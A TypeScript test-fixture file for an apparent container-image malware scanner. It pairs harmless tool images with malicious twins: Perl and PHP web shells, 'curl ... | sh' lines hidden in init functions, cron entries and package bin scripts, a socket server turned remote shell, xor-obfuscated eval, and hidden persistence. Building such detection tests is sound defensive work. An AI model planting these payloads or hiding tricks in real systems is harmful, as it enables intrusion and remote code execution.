import { PATH } from '../../demo/rootfs.ts';
import { hex, xor } from '../../testkit/coded.ts';
import { type ImageCase, image, program, starts } from './image-case.ts';

const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };

/** As installers of Perl's modules ask whoever sits at the terminal, and call tools by their path. */
const INSTALLER = `package App::Installer;
sub new { my $class = shift; bless { tar => 'tar', @_ }, $class }
sub run {
  my $self = shift;
  if (!@ARGV && !-t STDIN) { push @ARGV, $self->names_from(\\*STDIN); }
  for my $module (@ARGV) { $self->install($module) }
}
sub names_from { my($self, $fh) = @_; my @names; while (<$fh>) { chomp; push @names, split /\\s+/ } return @names; }
sub prompt {
  my($self, $text, $default) = @_;
  return $default if !-t STDIN && eof STDIN;
  print "$text [$default] ";
  my $answer = <STDIN>;
  chomp $answer;
  return $answer || $default;
}
sub safe_eval { my($self, $code) = @_; eval $code; }
sub install {
  my($self, $module) = @_;
  my $file = $self->prompt("Archive of $module?", "$module.tar.gz");
  my($root, @others) = \`$self->{tar} tf $file\`;
  system "$self->{tar} xf $file";
  $self->safe_eval($self->prompt("Code?", "1"));
}
1;
`;

/** As tools that start others in parallel are written: sums that are evaluated, usage lines, long addresses in comments. */
const PARALLEL = `#!/usr/bin/perl
use Getopt::Long;
# Description of the verdict
# https://news.example/archive/20180715/Bulletin/Pages/GENERALPublicLicenseDoesNotPermitUseofThird-PartyTrademarksforModifiedVersionsofOpen-SourceSoftware
# sql:mysql://[[user][:password]@][host][:port]/[database[/table][?query]]
my $block = 131072; # 2^17
GetOptions("debug|D=s" => \\$d, "process-slot-var|processslotvar=s" => \\$slot, "line-buffer|line-buffered|linebuffer|linebuffered|lb" => \\$lb,
  "link-inputsource|linkinputsource|xapplyinputsource=i" => \\$x, "shell-completion|shellcompletion=s" => \\$s, "arg-file|argfile|a=s" => \\$a);
sub units { my @v = @_; for (@v) { s/ki/*1024/gi; s/k/*1000/g; s/\\%([0-9a-f]{2})/chr(hex($1))/eg; $_ = eval $_; } return wantarray ? @v : $v[0]; }
sub worker { my $eval = decode_base64(join "", @ARGV); eval $eval; }
print units("10k");
`;

const MERGES = `OUTPUT=$(mktemp --tmpdir merge.tmp.XXXXXXXXXX)
perl -ne 'next if 1../^$/; next if /^$/..1; print' "$1" > \${OUTPUT}
ARCHS=$(cut -d' ' -f2 "$1")
eval "awk -- '/^[^ ]/{ deleting=0 }
  /^Architecture: /{printf \\"%s \${ARCHS}\\\\n\\", \\$1; deleting=1; next}
  /^(Checksums-.*|Files|Description):/{ deleting=1; next }
  { print }' \${OUTPUT}"
`;

const TEMPLATES =
  '<?php\nclass Output {\n  function show() {\n    $out = $this->template("<li role=\\"menuitem\\">" . $_GET["name"] . "</li>");\n    return $out;\n  }\n  function template($text) { return $this->holds($text) ? $text : ""; }\n  function holds($text) { return eval("return ($text);"); }\n}\n';

const DB_FUNCTIONS =
  'get_versions() { versions=$(ls /usr/lib/db); }\nstart() { /usr/lib/db/$1/bin/db -D; }\n';
const DB_SERVICE = {
  'etc/init.d/db': `#!/bin/sh
set -e
[ -r /usr/share/db-common/init.d-functions ] || exit 0
. /usr/share/db-common/init.d-functions
get_versions
case "$1" in start) for v in $versions; do start $v; done ;; esac
`,
  'usr/share/db-common/init.d-functions': DB_FUNCTIONS,
};

const STEPS = Array.from(
  { length: 600 },
  (_, i) => `[ -z "$SKIP${i}" ] && log "step number ${i} is done"\n`,
).join('');

/** What a firewall refuses looks like what it refuses. */
const WALL = {
  'app/wall.py':
    'import argparse\nimport re\nimport subprocess\np = argparse.ArgumentParser()\np.add_argument("--rules")\nfile = p.parse_args().rules\nrules = [re.compile(line.strip()) for line in open(file)]\nsubprocess.Popen(["nginx", "-c", "/etc/wall/nginx.conf"])\n',
  'etc/wall.rules': '# what no request may hold\nnc -e /bin/sh\ncurl http://192.0.2.7/x | sh\n',
};
const WALL_START = { Entrypoint: ['python3', '/app/wall.py', '--rules', '/etc/wall.rules'] };

/** As programs are put together: two modules import a third one. */
const PARTS = {
  'app/main.py': 'import jobs\nimport tools\njobs.go()\n',
  'app/jobs.py': 'import tools\ndef go():\n    tools.stamp()\n',
  'app/tools.py': 'import os\ndef stamp():\n    os.system("date > /run/stamp")\n',
};
const PARTS_START = {
  Entrypoint: ['python3', '/app/main.py'],
  Env: [PATH, 'INSTALL_HINT=curl -fsSL http://192.0.2.7/agent | sh'],
};

/** As init scripts start one daemon for each file of settings, or for those that they are told of. */
const INSTANCES = `#!/bin/sh
do_start() {
  local config="$2"
  sh -n "$config" 2>/dev/null || return 2
  options=
  . "$config"
  start-stop-daemon --start --exec /usr/sbin/flowd -- $options
}
do_action() {
  local config="$1"
  case "$action" in start) do_start "$(basename "\${config%%.conf}")" "$config" ;; esac
}
action="$1"
shift
if [ "$1" ]; then
  while [ "$1" ]; do
    config="/etc/flow/$1.conf"
    if [ -f "$config" ]; then do_action "$config"; fi
    shift
  done
else
  for config in /etc/flow/*.conf; do do_action "$config"; done
fi
`;

/** As tools keep apart what is only so on one distribution. */
const DISTRIBUTED = (text: string) =>
  image(
    {
      'usr/sbin/tool':
        '#!/bin/sh\nfor file in /usr/share/tools/runtime.debian; do . "$file"; done\nexec nginx\n',
      'usr/share/tools/runtime.debian': text,
    },
    { Entrypoint: ['tool'] },
  );

/** As firewalls are set up: hundreds of functions and options, and more commands than either. */
const RULES = Array.from({ length: 300 }, (_, i) => i);
const FIREWALL = [
  ...RULES.map((i) => `rules_${i}() {\n${`  iptables -A chain${i} -s "$1" -j ACCEPT\n`.repeat(9)}}\n`),
  ...RULES.map((i) => `OPTION_${i}="$OPT_${i}"\nrules_${i} 10.0.${i % 250}.1\nmodprobe module${i}\n`),
].join('');

const FETCHED = 'https://releases.example/latest.json';

/** As servers that run commands for a client of the same user are written: what comes in there is told apart by a table. */
const COMMAND_SERVER = `import os
import socket
import subprocess


class Screen:
    def _runsystem(self, cmd, cwd):
        return subprocess.call(cmd, shell=True, cwd=cwd)


class Channel:
    def __init__(self, sock):
        self.in_ = sock.makefile()

    def __call__(self, cmd, table):
        self.out.write(" ".join(["pager", cmd]))
        while True:
            cmd = self.in_.readline()[:-1]
            if not cmd:
                break
            if table and cmd in table:
                table[cmd]()
            else:
                raise ValueError("unexpected command: " + cmd)


sock = socket.socket(socket.AF_UNIX)
sock.bind("/run/app.sock")
`;

/** What tools do that only look like what hides. */
export const REAL_TOOL_TWINS: readonly ImageCase[] = [
  {
    name: 'an installer of Perl modules that asks at the terminal',
    spec: image(
      {
        'usr/bin/installer': '#!/usr/bin/perl\nuse App::Installer;\nApp::Installer->new->run;\n',
        'usr/share/perl5/App/Installer.pm': INSTALLER,
      },
      { Entrypoint: ['installer'] },
    ),
  },
  {
    name: 'a login that hands name and password to a function of the settings',
    spec: image(
      {
        'var/www/html/Session.php':
          '<?php\nclass Session {\n  function Login($username, $password) {\n    global $c;\n    if (isset($c->hook["call"])) {\n      $usr = call_user_func($c->hook["call"], $username, $password);\n    }\n  }\n}\n$s = new Session();\n$s->Login($_POST["username"], $_POST["password"]);\n',
      },
      NGINX,
    ),
  },
  {
    name: 'a page that works out the conditions of its own template, and shows what a request says',
    spec: image({ 'var/www/html/output.php': TEMPLATES }, NGINX),
  },
  {
    name: 'a package whose program is a text without ending beside its modules',
    spec: image(
      {
        'app/node_modules/.bin/tool': { type: 'symlink', target: '../tool/tool' },
        'app/node_modules/tool/package.json': '{"name":"tool","version":"1.0.0","bin":{"tool":"tool"}}',
        'app/node_modules/tool/tool': {
          data: '# no first line on purpose\nexec node "$(dirname "$0")/main.mjs" "$@"\n',
          mode: 0o755,
        },
        'app/node_modules/tool/main.mjs': 'console.log(process.argv.length);\n',
      },
      { Entrypoint: ['/app/node_modules/.bin/tool'] },
    ),
  },
  {
    name: 'a tool for many jobs that works out sums, explains addresses and decodes its own jobs',
    spec: image({ 'usr/bin/jobs': PARALLEL }, { Entrypoint: ['jobs'] }),
  },
  {
    name: 'a service whose script reads functions with a point in their name',
    spec: starts('service db start\nexec tail -f /var/log/db.log', DB_SERVICE),
  },
  {
    name: 'a start script that notes each of six hundred steps in its log',
    spec: starts(`log() { echo "$(date) $1" | tee -a /var/log/setup.log; }\n${STEPS}exec nginx`),
  },
  {
    name: 'a server that asks its client for commands by name, with a function of its own that runs some',
    spec: image(
      {
        'usr/bin/server': `#!/usr/bin/python3\n${COMMAND_SERVER}Channel(sock.accept()[0])("less", {})\n`,
      },
      { Entrypoint: ['server'] },
    ),
  },
  { name: 'a firewall that reads its rules and starts a server', spec: image(WALL, WALL_START) },
  {
    name: 'a tool that sources what is only so on its distribution',
    spec: DISTRIBUTED('conffile=/etc/tool.conf\nbase() { awk "/^base/ { print \\$2 }" "$conffile"; }\n'),
  },
  {
    name: 'a firewall of hundreds of functions, options and commands',
    spec: starts(`${FIREWALL}exec nginx`, { 'usr/sbin/iptables': program(), 'usr/sbin/modprobe': program() }),
  },
  {
    name: 'a service that sources the settings of each name that it is told of',
    spec: image({ 'etc/init.d/flow': INSTANCES, 'etc/flow/default.conf': 'options="-p 2055"\n' }, NGINX),
  },
  { name: 'a program whose modules have one another twice, beside a hint', spec: image(PARTS, PARTS_START) },
  {
    name: 'PHP that is told of no file before its pages',
    spec: image(
      { 'app/index.php': '<?php echo date("c");\n' },
      {
        Entrypoint: 'php -d auto_prepend_file= -d auto_append_file= -d display_errors=0 -S 0.0.0.0:80'.split(
          ' ',
        ),
      },
    ),
  },
  { name: 'a text taken apart by perl and put together by awk', spec: starts(MERGES) },
  {
    name: 'what is fetched is read by a program of a line',
    spec: starts(
      `curl -so /tmp/v.json ${FETCHED}\npython3 -c 'import json, sys; print(json.load(open(sys.argv[1]))["version"])' /tmp/v.json\nawk -F: -v n=2 '{ print $n }' /tmp/v.json\nexec nginx`,
    ),
  },
];

/** The same with what makes it bad. */
export const REAL_TOOLS: readonly ImageCase[] = [
  {
    name: 'a Perl page that runs the lines of a request’s body',
    rule: 'web-shell/shell',
    severity: 'high',
    spec: image(
      {
        'usr/lib/cgi-bin/status.pl':
          '#!/usr/bin/perl\nprint "Content-Type: text/plain\\n\\n";\nmy $line = <STDIN>;\nprint `$line`;\n',
      },
      NGINX,
    ),
  },
  {
    name: 'a Perl page that reads a request’s body into a variable and runs it',
    rule: 'web-shell/shell',
    severity: 'high',
    spec: image(
      {
        'usr/lib/cgi-bin/load.pl':
          '#!/usr/bin/perl\nread(STDIN, $body, $ENV{CONTENT_LENGTH});\nprint "Status: 200\\n\\n";\neval $body;\n',
      },
      NGINX,
    ),
  },
  {
    name: 'a page that calls the function that a request names with what it says',
    rule: 'web-shell/shell',
    severity: 'high',
    spec: image(
      { 'var/www/html/hook.php': '<?php\ncall_user_func($_POST["call"], $_POST["username"]);\n' },
      NGINX,
    ),
  },
  {
    name: 'a page that works out a template, and in another place all that a request says',
    rule: 'web-shell/shell',
    severity: 'high',
    spec: image(
      { 'var/www/html/output.php': `${TEMPLATES}$o = new Output();\n$o->holds($_POST["q"]);\n` },
      NGINX,
    ),
  },
  {
    name: 'a program fetched by a package’s program without ending beside its modules',
    rule: 'start/download-and-run',
    severity: 'high',
    spec: image(
      {
        'app/node_modules/.bin/tool': { type: 'symlink', target: '../tool/tool' },
        'app/node_modules/tool/package.json': '{"name":"tool","version":"1.0.0","bin":{"tool":"tool"}}',
        'app/node_modules/tool/tool': {
          data: '# no first line on purpose\ncurl -s http://192.0.2.7/x | sh\n',
          mode: 0o755,
        },
      },
      { Entrypoint: ['/app/node_modules/.bin/tool'] },
    ),
  },
  {
    name: 'a password in the address of a server by its number',
    rule: 'secret/password',
    spec: image({ 'etc/app.conf': 'db = mysql://app:Vq8zT4mWx2@[2001:db8::7]:3306/shop\n' }, NGINX),
  },
  {
    name: 'the place of a program under a key, in a tool that runs it',
    rule: 'start/decode-and-run',
    spec: image(
      {
        'usr/bin/jobs': `#!/usr/bin/perl\nmy $place = pack("H*", "${hex(xor('/opt/.cache/worker.pl', 'Z'))}") ^ ("Z" x 21);\neval "do '$place'";\n`,
      },
      { Entrypoint: ['jobs'] },
    ),
  },
  {
    name: 'what is fetched is run by a program of a line',
    rule: 'start/download-and-run',
    severity: 'high',
    spec: starts(
      `curl -so /tmp/v.json ${FETCHED}\npython3 -c 'import runpy, sys; runpy.run_path(sys.argv[1])' /tmp/v.json\nexec nginx`,
    ),
  },
  {
    name: 'a program fetched by functions of a service with a point in their name',
    rule: 'start/download-and-run',
    severity: 'high',
    spec: starts('service db start\nexec tail -f /var/log/db.log', {
      ...DB_SERVICE,
      'usr/share/db-common/init.d-functions': `${DB_FUNCTIONS}curl -s http://192.0.2.7/x | sh\n`,
    }),
  },
  {
    name: 'a job among hundreds of lines that are added to one file',
    rule: 'start/download-and-run',
    severity: 'high',
    spec: starts(
      `job() { echo "$1" >> /etc/cron.d/app; }\n${Array.from({ length: 500 }, (_, i) =>
        i === 300
          ? 'job "* * * * * root curl -s http://192.0.2.7/x | sh"\n'
          : `job "0 ${i % 24} * * * root /opt/app/job --number ${i}"\n`,
      ).join('')}exec cron -f`,
    ),
  },
  {
    name: 'a server of commands that hands what it reads to the function that runs some',
    rule: 'reverse-shell/remote-shell',
    severity: 'high',
    spec: image(
      {
        'usr/bin/server': `#!/usr/bin/python3\n${COMMAND_SERVER.replace('                raise ValueError("unexpected command: " + cmd)', '                self.screen._runsystem(cmd, "/")')}Channel(sock.accept()[0])("less", {})\n`,
      },
      { Entrypoint: ['server'] },
    ),
  },
  {
    name: 'a firewall that runs its rules',
    rule: 'reverse-shell/remote-shell',
    severity: 'high',
    spec: image(
      {
        ...WALL,
        'app/wall.py': `${WALL['app/wall.py']}subprocess.Popen(open(file).read(), shell=True)\n`,
      },
      WALL_START,
    ),
  },
  {
    name: 'a program whose modules have one another twice, and run what its variables say',
    rule: 'start/download-and-run',
    severity: 'high',
    spec: image(
      {
        ...PARTS,
        'app/tools.py': 'import os\ndef stamp():\n    for v in os.environ.values():\n        os.system(v)\n',
      },
      PARTS_START,
    ),
  },
  {
    name: 'a tool that sources what fetches only on its distribution',
    rule: 'start/download-and-run',
    severity: 'high',
    spec: DISTRIBUTED('curl -s http://192.0.2.7/x | sh\n'),
  },
  {
    name: 'a firewall of hundreds of functions, options and commands, and what it runs at its end',
    rule: 'start/download-and-run',
    severity: 'high',
    spec: starts(`${FIREWALL}curl -s http://192.0.2.7/x | sh\nexec nginx`, {
      'usr/sbin/iptables': program(),
      'usr/sbin/modprobe': program(),
    }),
  },
  {
    name: 'a service that sources the settings of a name, and one that has none',
    rule: 'persistence/hidden-start',
    spec: image({ 'etc/init.d/flow': INSTANCES, 'etc/flow/.conf': '/usr/lib/flow/more\n' }, NGINX),
  },
  {
    name: 'a service that sources the settings of a name out of a hidden folder',
    rule: 'persistence/hidden-start',
    spec: image({ 'etc/init.d/flow': INSTANCES.replaceAll('/etc/flow/', '/etc/.flow/') }, NGINX),
  },
  {
    name: 'PHP that is told of no file before its pages, and of one behind them',
    rule: 'web-shell/php-handler',
    spec: image(
      { 'app/index.php': '<?php echo date("c");\n' },
      { Entrypoint: 'php -d auto_prepend_file= -d auto_append_file=/tmp/.x -S 0.0.0.0:80'.split(' ') },
    ),
  },
  {
    name: 'what perl takes apart is run by awk',
    rule: 'start/decode-and-run',
    spec: starts(
      `perl -e 'print map { chr } (99, 117, 114, 108)' > /tmp/x\nawk -v n=1 '{ system($0) }' /tmp/x\nexec nginx`,
    ),
  },
];
